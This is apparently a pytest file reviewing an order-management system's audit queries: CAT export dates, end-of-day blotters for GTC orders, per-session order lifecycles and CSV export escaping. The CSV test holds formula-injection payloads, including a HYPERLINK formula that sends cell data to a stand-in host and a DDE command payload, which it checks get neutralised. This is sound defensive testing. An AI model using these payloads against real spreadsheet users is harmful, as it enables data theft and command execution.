"""Review of the compliance read side: defects found in queries/verify, each shown by a test on a
data dir written by a real engine (same helpers as test_audit_queries)."""
from __future__ import annotations

import csv
import io
import json

import duckdb
import pytest

from oms_trading.audit import queries as Q
from oms_trading.audit import schema as ev
from oms_trading.audit.journal import Journal
from oms_trading.audit.paths import duckdb_path, journal_dir
from oms_trading.audit.projection import TABLE, Projection
from oms_trading.audit.verify import verify
from oms_trading.book import ReferenceBook
from oms_trading.compliance.risk import RiskEngine
from oms_trading.config import load_config
from oms_trading.engine.engine import Engine

from .test_audit_queries import MIN, S1, S2, T0, _cancel, _new, _replace

DAY_NS = 86_400 * 10**9
DAY2 = "2026-11-26"


def _clock_eod(ts):
    return {"type": ev.CLOCK, "ts": ts, "end_of_day": 1}


def _run(data_dir, commands) -> None:
    cfg = load_config(None)
    journal = Journal(journal_dir(data_dir), fsync="os")
    engine = Engine(cfg, journal, lambda: ReferenceBook(capacity=256), risk=RiskEngine(cfg))
    for cmd in commands:
        engine.process(cmd)
        engine.flush()
    journal.close()


def _open(data_dir):
    proj = Projection(duckdb_path(data_dir), journal_dir(data_dir))
    proj.catch_up()
    return proj, proj.cursor()


@pytest.fixture(scope="module")
def two_days(tmp_path_factory):
    """Day 1: a GTC buy G-1 rests, a GTC sell G-2 rests; end of day. Day 2: G-2 is replaced
    and partly filled by a new buy, then canceled; G-1 has no event at all on day 2."""
    data = tmp_path_factory.mktemp("twodays")
    t2 = T0 + DAY_NS
    _run(data, [
        _new("G-1", "1", 100, "180.00", tif="1", ts=T0),
        _new("G-2", "2", 300, "195.00", session=S2, account="ACC2", tif="1", ts=T0 + MIN),
        _clock_eod(T0 + 7 * 3600 * 10**9),
        _replace("G-2a", "G-2", 200, "194.00", session=S2, ts=t2),
        _new("D-1", "1", 50, "194.00", ts=t2 + MIN),
        _cancel("G-2b", "G-2a", session=S2, ts=t2 + 2 * MIN),
    ])
    proj, con = _open(data)
    yield data, con
    con.close()
    proj.close()


def test_cat_order_key_date_of_order_accepted_before_the_window(two_days, tmp_path):
    """CAT events of an order accepted before --from must carry the order's real orderKeyDate
    (its acceptance: a replace keeps the Order Key), not the event's own time."""
    _, con = two_days
    full = [json.loads(x) for x in _cat(con, tmp_path / "all.jsonl")]
    day2 = [json.loads(x) for x in _cat(con, tmp_path / "d2.jsonl", ts_from=DAY2)]
    meno = [x for x in full if x["type"] == "MENO" and x["clOrdID"] == "G-2"][0]
    meom = [x for x in day2 if x["type"] == "MEOM"][0]
    assert meom["orderKeyDate"] == meno["orderKeyDate"]            # accepted on day 1
    meom_full = [x for x in full if x["type"] == "MEOM"][0]
    assert meom == meom_full
    # every day-2 event is the same as in the export of both days
    assert [x for x in full if x["seq"] >= day2[0]["seq"]] == day2
    meoc = [x for x in day2 if x["type"] == "MEOC"][0]
    assert meoc["orderKeyDate"] == meom["orderKeyDate"] and meoc["cancelQty"] == 150


def _cat(con, path, **kw):
    Q.export(con, "cat", path, **kw)
    return path.read_text().splitlines()


def test_eod_lists_orders_open_from_earlier_days(two_days):
    """G-1 (GTC) rests from day 1 and has no event on day 2: day 2's blotter and its
    'orders left open' exception must still account for it."""
    _, con = two_days
    data = Q.eod_data(con, date=DAY2)
    ended = {o["cl_ord_id"]: o["ended"] for o in data["blotter"]}
    assert ended == {"G-1": "open", "G-2b": "partly filled, canceled", "D-1": "filled"}
    assert [o["cl_ord_id"] for o in data["exceptions"]["pending"]] == ["G-1"]
    g1 = [o for o in data["blotter"] if o["cl_ord_id"] == "G-1"][0]
    assert g1["entered"] == Q.iso_ns(T0) and g1["leaves_qty"] == 100
    # day 1: both GTC orders open at its end
    day1 = Q.eod_data(con, date="2026-11-25")
    assert sorted(o["cl_ord_id"] for o in day1["exceptions"]["pending"]) == ["G-1", "G-2"]


def test_eod_csv_neutralizes_formulas_from_clients(tmp_path):
    """ClOrdID, Account, Symbol and Price come from clients as sent; a spreadsheet opening the
    CSV must not run them as formulas (CSV injection)."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    _run(tmp_path, [
        _new(evil, "1", 10, "185.00", ts=T0),                                    # accepted, rests
        _new("+R-1", "1", 10, "185.00", account="@SUM(1+1)", ts=T0 + MIN),       # unknown account
        _new("R-2", "1", 10, "-cmd|' /C calc'!A0", ts=T0 + 2 * MIN),             # bad price
        _new("R-3", "1", 10, "-5", ts=T0 + 3 * MIN),                             # negative: a number
    ])
    proj, con = _open(tmp_path)
    try:
        text = Q.eod_report(con, date="2026-11-25", fmt="csv")
    finally:
        con.close()
        proj.close()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5")]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells and "'+R-1" in cells and "-5" in cells


@pytest.fixture(scope="module")
def chains(tmp_path_factory):
    """S1: A -> B (replaced), B -> C rejected (side change), canceled by its first ClOrdID A,
    then a replace Y of the canceled order (too late). S2 uses ClOrdID A for an order of its own,
    and sends a cancel naming S1's OrderID 1 (tag 37) that the engine rejects as unknown."""
    data = tmp_path_factory.mktemp("chains")
    foreign = dict(_cancel("Z-1", "NOPE", session=S2, ts=T0 + 6 * MIN), order_id=1)
    _run(data, [
        _new("A", "1", 100, "185.00", ts=T0),
        _replace("B", "A", 200, "186.00", ts=T0 + MIN),
        dict(_replace("C", "B", 200, "186.00", ts=T0 + 2 * MIN), side="2"),
        _new("A", "2", 100, "199.00", session=S2, account="ACC2", ts=T0 + 3 * MIN),
        _cancel("X", "A", ts=T0 + 4 * MIN),
        _replace("Y", "B", 300, ts=T0 + 5 * MIN),
        foreign,
    ])
    proj, con = _open(data)
    yield data, con
    con.close()
    proj.close()


CHAIN_TYPES = ["order_received", "order_accepted", "replace_requested", "order_replaced", "replace_requested",
               "replace_rejected", "cancel_requested", "order_canceled", "replace_requested", "replace_rejected"]


def test_lifecycle_leaves_out_other_sessions_requests_naming_the_order_id(chains):
    """A command's order_id is the OrderID (37) the client wrote, not the order the engine acted
    on: S2's cancel naming OrderID 1, rejected as unknown, is not an event of S1's order 1."""
    _, con = chains
    rows = Q.lifecycle(con, order_id=1)
    assert [r["type"] for r in rows] == CHAIN_TYPES
    assert {r["session"] for r in rows} == {S1}
    for cl in ("A", "B", "C", "X", "Y"):
        assert Q.lifecycle(con, cl_ord_id=cl, session=S1) == rows
    # S2's own request is still found by its ClOrdID, with its answer
    z = Q.lifecycle(con, cl_ord_id="Z-1")
    assert [r["type"] for r in z] == ["cancel_requested", "cancel_rejected"]


def test_lifecycle_of_a_cl_ord_id_used_by_two_sessions_is_not_merged(chains):
    """ClOrdID A is S1's order 1 and S2's order 2 (a ClOrdID is unique per session only):
    without --session the answer must not interleave the two orders as if they were one."""
    _, con = chains
    with pytest.raises(Q.QueryError, match="session"):
        Q.lifecycle(con, cl_ord_id="A")
    assert [r["type"] for r in Q.lifecycle(con, cl_ord_id="A", session=S1)] == CHAIN_TYPES
    assert [r["type"] for r in Q.lifecycle(con, cl_ord_id="A", session=S2)] == ["order_received", "order_accepted"]
    assert [r["type"] for r in Q.lifecycle(con, cl_ord_id="C")] == CHAIN_TYPES   # one order: no session needed
